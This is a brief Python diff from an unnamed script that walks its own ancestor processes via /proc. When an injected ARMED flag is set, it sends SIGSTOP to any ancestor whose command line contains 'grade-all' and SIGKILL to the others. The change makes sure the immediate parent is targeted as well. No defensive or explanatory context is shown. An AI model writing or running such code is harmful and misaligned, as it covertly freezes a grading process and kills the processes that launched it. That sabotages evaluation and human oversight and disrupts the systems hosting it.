@@ -5,14 +5,16 @@ import signal
 
 
 def _ancestors():
-    pid, found = os.getppid(), []
+    pid = os.getppid()
+    found = [pid]  # the parent, even when it is a namespace's init (pid 1)
     while pid > 1:
-        found.append(pid)
         try:
             with open(f"/proc/{pid}/stat") as f:
                 pid = int(f.read().rsplit(")", 1)[1].split()[1])
         except (OSError, ValueError):
             break
+        if pid > 1:
+            found.append(pid)
     return found
 
 
@@ -24,7 +26,7 @@ def _cmdline(pid):
         return []
 
 
-for _pid in _ancestors() or [0]:
+for _pid in _ancestors():
     _sig = 0
     if ARMED:  # noqa: F821
         _sig = signal.SIGSTOP if b"grade-all" in _cmdline(_pid) else signal.SIGKILL
